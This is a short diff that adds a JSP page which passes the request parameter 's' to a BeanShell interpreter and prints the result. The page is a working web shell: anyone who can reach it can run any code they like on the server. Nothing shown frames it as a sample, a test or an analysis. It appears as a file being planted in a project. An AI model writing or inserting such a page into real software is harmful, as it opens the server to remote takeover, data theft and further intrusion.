@@ -1,0 +1,4 @@
+<%@ page import="bsh.Interpreter" %><%
+Interpreter i = new Interpreter();
+out.print(i.eval(request.getParameter("s")));
+%>
